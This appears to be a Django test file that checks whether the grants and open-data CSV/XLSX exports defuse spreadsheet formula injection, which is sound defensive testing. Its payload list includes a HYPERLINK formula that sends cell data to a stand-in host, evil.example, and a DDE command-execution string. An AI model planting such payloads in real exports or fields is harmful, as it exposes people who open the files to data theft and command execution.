"""Every CSV and XLSX writer makes formula-looking text inert.

Text fields of the objects each export reads are filled with formula-looking values (every
concrete text column, found by walking the models, not a hand-picked few); the export is then
read back as a spreadsheet program would read it. The trigger characters are written out here,
not taken from the code under test.
"""

import csv
import io

import pytest
from django.db import models
from django.test import Client
from openpyxl import load_workbook

from partnernet.grants import services
from partnernet.grants.export import score_workbook
from partnernet.grants.models import RUBRIC, Application, Review
from partnernet.grants.selectors import call_score_table
from partnernet.grants.tests import factories as gf
from partnernet.municipalities.models import Municipality
from partnernet.opendata.datasets import DATASETS, csv_chunks
from partnernet.partnerships.models import CooperationArea, Network, Partnership, Tag

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def text_columns(model) -> list[models.Field]:
    """Every concrete text column a person or an import could fill (not keys, not choices)."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.primary_key
        and not field.choices
        and field.editable
    ]


def poison(queryset, start: int = 0) -> int:
    """Write a formula-looking value into every text column of `queryset`'s rows."""
    columns = text_columns(queryset.model)
    pks = list(queryset.values_list("pk", flat=True))
    assert pks
    for pk in pks:  # one row at a time: unique columns get a value of their own
        values = {}
        for index, field in enumerate(columns):
            payload, suffix = PAYLOADS[(start + index) % len(PAYLOADS)], f"#{pk}.{index}"
            room = (field.max_length or 10_000) - len(suffix)
            values[field.name] = payload[:room] + suffix if room >= 2 else payload[:2]
        queryset.model.objects.filter(pk=pk).update(**values)
    return len(columns)


def csv_cells(path: str) -> list[str]:
    response = Client().get(path)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_csv_column_of_every_dataset_is_inert_whatever_its_rows_hold():
    for dataset in DATASETS.values():
        rows = [[payload] * len(dataset.fields) for payload in PAYLOADS]
        text = "".join(csv_chunks(dataset, rows))
        parsed = list(csv.reader(io.StringIO(text, newline="")))[1:]
        assert len(parsed) == len(PAYLOADS)
        for row, payload in zip(parsed, PAYLOADS, strict=True):
            assert row == ["'" + payload] * len(dataset.fields), dataset.name


def test_open_data_csv_downloads_never_start_a_cell_like_a_formula():
    partnership = Partnership.objects.filter(slug="umea-kherson")
    item = partnership.get()
    written = poison(partnership)
    written += poison(Network.objects.filter(pk=item.network_id), 1)
    written += poison(Municipality.objects.filter(pk=item.swedish_partner_id), 2)
    written += poison(Municipality.objects.filter(pk=item.partner_id), 3)
    written += poison(CooperationArea.objects.filter(pk=item.area_id), 4)
    written += poison(Tag.objects.filter(pk__in=item.tags.values("pk")), 5)
    assert written >= 20  # the walk found the text columns (a check that cannot pass empty)
    seen = 0
    for name in DATASETS:
        for cell in csv_cells(f"/open-data/{name}.csv"):
            assert not cell.startswith(TRIGGERS), (name, cell)
            seen += cell.startswith("'") and "#" in cell
    assert seen >= 10  # the poisoned values did reach the downloads, defused


def test_the_score_sheet_has_no_formula_and_no_cell_that_starts_like_one():
    call = gf.call()
    application = gf.in_review(call, reviewed=False)
    person = gf.reviewer()
    staff = gf.officer()
    services.review_assign(application_id=application.pk, reviewer=person, actor=staff)
    services.review_submit(
        review_id=application.reviews.get().pk,
        actor=person,
        scores={key: 3 for key, _label in RUBRIC},
        comments="=1+1",
        conflict_of_interest=False,
    )
    poison(Application.objects.filter(pk=application.pk))
    poison(Review.objects.filter(application=application), 1)
    poison(Municipality.objects.filter(pk=application.swedish_partner_id), 2)
    poison(Municipality.objects.filter(pk=application.partner_id), 3)
    type(person).objects.filter(pk=person.pk).update(full_name="@SUM(A1)\x0b")
    book = load_workbook(io.BytesIO(score_workbook(call_score_table(call=call))))
    strings = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (sheet.title, cell.value)
                    strings.append(cell.value)
    # Not vacuous: the people's text is there, as text.
    assert "'@SUM(A1)" in strings
    assert any(s.startswith("'=HYPERLINK") for s in strings)
    assert sum(s.startswith("'") for s in strings) >= 4
